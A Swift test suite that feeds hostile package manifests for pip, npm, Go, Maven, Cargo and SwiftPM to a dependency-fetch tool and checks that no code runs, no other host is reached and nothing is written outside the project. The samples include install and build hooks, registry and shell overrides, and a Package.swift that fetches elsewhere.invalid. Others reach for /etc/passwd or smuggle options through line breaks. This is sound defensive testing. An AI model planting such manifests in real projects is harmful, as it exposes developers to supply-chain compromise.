import AssaySupport
import AssayTestSupport
import FoundationEssentials
import Testing

/// Manifests and packages that want the fetch to run code, to reach other hosts, or to write elsewhere.
@Suite struct HostileManifestTests {
    /// One attack.
    struct Attack: CustomTestStringConvertible {
        let testDescription: String
        let tool: String
        let files: [String: String]
        /// What is told; nil where the fetch does its work and the attack comes to nothing.
        let told: String?

        init(_ name: String, _ tool: String, _ files: [String: String], told: String? = nil) {
            (testDescription, self.tool, self.files, self.told) = (name, tool, files, told)
        }

        /// A Python project that asks for one thing.
        static func python(_ name: String, _ requirement: String, told: String? = nil) -> Attack {
            Attack(name, "python3", ["requirements.txt": requirement + "\n", "test_it.py": "def test_it():\n    pass\n"], told: told)
        }

        /// A JavaScript project with some dependencies.
        static func node(_ name: String, _ dependencies: String, more: String = "", told: String? = nil) -> Attack {
            let manifest = #"{"name": "it", "version": "1.0.0", "scripts": {"test": "node --test"}, "dependencies": {"# + dependencies + "}" + more + "}"
            return Attack(name, "npm", ["package.json": manifest, "it.test.js": "require('node:test')('it', () => {});\n"], told: told)
        }

        /// A project of Maven's whose build has something that Maven would run before it fetches.
        static func maven(_ name: String, _ build: String) -> Attack {
            let manifest =
                "<project><modelVersion>4.0.0</modelVersion><groupId>it</groupId><artifactId>it</artifactId><version>1</version><build>\(build)</build></project>\n"
            return Attack(name, "mvn", ["pom.xml": manifest, "src/test/java/ItTest.java": "class ItTest {}\n"], told: "names a build extension")
        }
    }

    static let attacks: [Attack] = [
        .python("pip: a source package whose setup.py is code", "runs", told: "runs"),
        .python("pip: a wheel that climbs out of its folder", "climbs", told: "unavailable"),
        .python("pip: a wheel that is started with every Python", "starts"),
        .python("pip: links to another host", "elsewhere", told: "elsewhere.invalid"),
        .python("pip: a redirect to another host", "redirected", told: "elsewhere.invalid"),
        .python("pip: a download without end", "endless", told: "unavailable"),
        .python("pip: a hundred thousand files", "many", told: "unavailable"),
        .python("pip: another index", "--index-url http://elsewhere.invalid/simple\n--extra-index-url http://elsewhere.invalid/simple\ntiny"),
        .python("pip: a URL", "tiny\nother @ http://elsewhere.invalid/other-1.0-py3-none-any.whl"),
        .python("pip: a git repository with hooks", "tiny\n-e git+http://elsewhere.invalid/x.git#egg=x\ngit+file:///etc"),
        .python("pip: requirements outside of the project", "tiny\n-r ../../../etc/passwd\n-r /etc/passwd"),
        .python("pip: options in a requirement", "tiny --global-option=build --config-settings=a=b"),
        Attack(
            "pip: a line break in a requirement, with an option behind it", "python3",
            [
                "pyproject.toml":
                    "[build-system]\nrequires = [\"tiny\"]\n[project]\nname = \"it\"\nversion = \"1\"\ndependencies = [\"runs\\n--no-binary runs\", \"tiny\\u2028-e .\", \"it@file:/w\"]\n",
                "setup.py": "open('/layer/RAN', 'w')\n", "test_it.py": "def test_it():\n    pass\n",
            ]),
        Attack(
            "pip: a name that is only here (dependency confusion)", "python3",
            [
                "pyproject.toml":
                    "[project]\nname = \"it\"\nversion = \"1\"\ndependencies = [\"it[test]\", \"tiny\"]\n[project.optional-dependencies]\ntest = []\n",
                "test_it.py": "def test_it():\n    pass\n",
            ], told: "it"),
        Attack(
            "pip: a setup.py that is code", "python3",
            [
                "setup.py": "open('/layer/RAN', 'w')\nfrom setuptools import setup\nsetup(name='it', version='1', install_requires=['tiny'])\n",
                "test_it.py": "def test_it():\n    pass\n",
            ]),
        .node("npm: scripts of a package", #""runs": "1""#),
        .node("npm: scripts of the project", #""tiny": "1""#, more: #", "scripts": {"preinstall": "echo x > /layer/RAN", "test": "node --test"}"#),
        .node("npm: an archive that climbs out of its folder", #""climbs": "1""#),
        .node("npm: an archive of links", #""links": "1""#),
        .node("npm: an archive of another host", #""elsewhere": "1""#, told: "elsewhere.invalid"),
        .node("npm: an address of another host", #""x": "http://elsewhere.invalid/x.tgz""#, told: "elsewhere.invalid"),
        .node("npm: a git dependency", #""x": "git+http://elsewhere.invalid/x.git""#, told: "elsewhere.invalid"),
        .node("npm: a folder of the machine", #""x": "file:/etc""#),
        Attack(
            "npm: settings of the project", "npm",
            [
                ".npmrc": "registry=http://elsewhere.invalid/\nscript-shell=/w/run\nignore-scripts=false\n",
                "package.json": #"{"name": "it", "version": "1.0.0", "scripts": {"test": "node --test"}, "dependencies": {"tiny": "1"}}"#,
                "it.test.js": "require('node:test')('it', () => {});\n",
            ]),
        Attack(
            "go: an archive that climbs out of its folder", "go",
            ["go.mod": "module it\n\ngo 1.19\n\nrequire example.org/climbs v1.0.0\n", "it_test.go": "package it\n"], told: "climbs"),
        Attack(
            "go: a module of another host by version control", "go",
            [
                "go.mod": "module it\n\ngo 1.19\n\nrequire elsewhere.invalid/x v1.0.0\n\nreplace elsewhere.invalid/x => elsewhere.invalid/y.git v1.0.0\n",
                "it_test.go": "package it\n",
            ], told: "elsewhere.invalid"),
        Attack(
            "go: another toolchain", "go",
            ["go.mod": "module it\n\ngo 1.99\n\ntoolchain go1.99.0\n\nrequire example.org/tiny v1.0.0\n", "it_test.go": "package it\n"], told: "unavailable"),
        .maven(
            "maven: a build extension",
            "<extensions ><extension><groupId>a</groupId><artifactId>a</artifactId><version>1</version></extension></extensions>"),
        .maven(
            "maven: a plugin that is an extension",
            "<plugins><plugin><groupId>a</groupId><artifactId>a</artifactId><version>1</version><extensions\n>true</extensions></plugin></plugins>"),
        Attack(
            "cargo: a build script", "cargo",
            [
                "Cargo.toml": "[package]\nname = \"it\"\nversion = \"0.1.0\"\nbuild = \"build.rs\"\n[dependencies]\nruns = \"1\"\n", "src/lib.rs": "",
                "build.rs": "",
            ]),
        Attack(
            "cargo: an archive that climbs out of its folder", "cargo",
            ["Cargo.toml": "[package]\nname = \"it\"\nversion = \"0.1.0\"\n[dependencies]\nclimbs = \"1\"\n", "src/lib.rs": ""]),
        Attack(
            "cargo: a git dependency", "cargo",
            [
                "Cargo.toml": "[package]\nname = \"it\"\nversion = \"0.1.0\"\n[dependencies]\nx = {git = \"http://elsewhere.invalid/x.git\"}\n",
                "src/lib.rs": "",
            ],
            told: "elsewhere.invalid"),
        Attack(
            "cargo: settings of the project", "cargo",
            [
                ".cargo/config.toml":
                    "[source.crates-io]\nreplace-with = \"bad\"\n[source.bad]\nregistry = \"sparse+http://elsewhere.invalid/\"\n[build]\nrustc = \"/w/run\"\n",
                "Cargo.toml": "[package]\nname = \"it\"\nversion = \"0.1.0\"\n[dependencies]\ntiny = \"1\"\n", "src/lib.rs": "",
            ]),
        Attack(
            "swift: a manifest that is a program", "swift",
            [
                "Package.swift":
                    "// swift-tools-version: 5.9\nimport PackageDescription\nimport Foundation\n"
                    + "try? Data().write(to: URL(fileURLWithPath: \"/layer/RAN\"))\n"
                    + "_ = try? String(contentsOf: URL(string: \"http://elsewhere.invalid/\")!)\n"
                    + "let package = Package(name: \"it\", dependencies: [.package(url: \"REGISTRY/git/tiny.git\", exact: \"1.0.0\")], "
                    + "targets: [.testTarget(name: \"ItTests\")])\n",
                "Tests/ItTests/It.swift": "import XCTest\nfinal class It: XCTestCase { func testIt() {} }\n",
            ]),
        Attack(
            "swift: a repository of another host", "swift",
            [
                "Package.swift":
                    "// swift-tools-version: 5.9\nimport PackageDescription\nlet package = Package(name: \"it\", dependencies: ["
                    + ".package(url: \"http://elsewhere.invalid/x.git\", exact: \"1.0.0\")], targets: [.testTarget(name: \"ItTests\")])\n",
                "Tests/ItTests/It.swift": "import XCTest\nfinal class It: XCTestCase { func testIt() {} }\n",
            ], told: "elsewhere.invalid"),
    ]

    @Test("a hostile manifest runs no code, reaches no other host and writes nowhere else", arguments: attacks)
    func contained(_ attack: Attack) async throws {
        guard Installed.has(attack.tool) else { return }
        try await StandInRegistry.serving { registry in
            try registry.project("it", attack.files)
            let ran = try await registry.assay(["fetch", "it", "--allow-host", "127.0.0.1:\(registry.port)", "--fetch-limit", "64"])
            if let told = attack.told {
                #expect(ran.status == 3 && ran.err.contains(told), "\(ran.status ?? -1) \(ran.out) \(ran.err)")
                #expect(registry.kept.isEmpty, "\(registry.kept.prefix(20))")
            } else {
                #expect(ran.status == 0, "\(ran.out) \(ran.err)")
            }
            // What code of a package, or of a project other than a manifest of SwiftPM's, would have left.
            #expect(!registry.kept.contains { $0.hasSuffix("RAN") || $0.hasSuffix("escaped") }, "\(registry.kept.prefix(20))")
            #expect(!FileManager.default.fileExists(atPath: registry.folder + "/it/escaped"))
            #expect(!ran.out.contains("from elsewhere.invalid") && !ran.err.contains("from elsewhere.invalid"), "\(ran.err)")
        }
    }
}
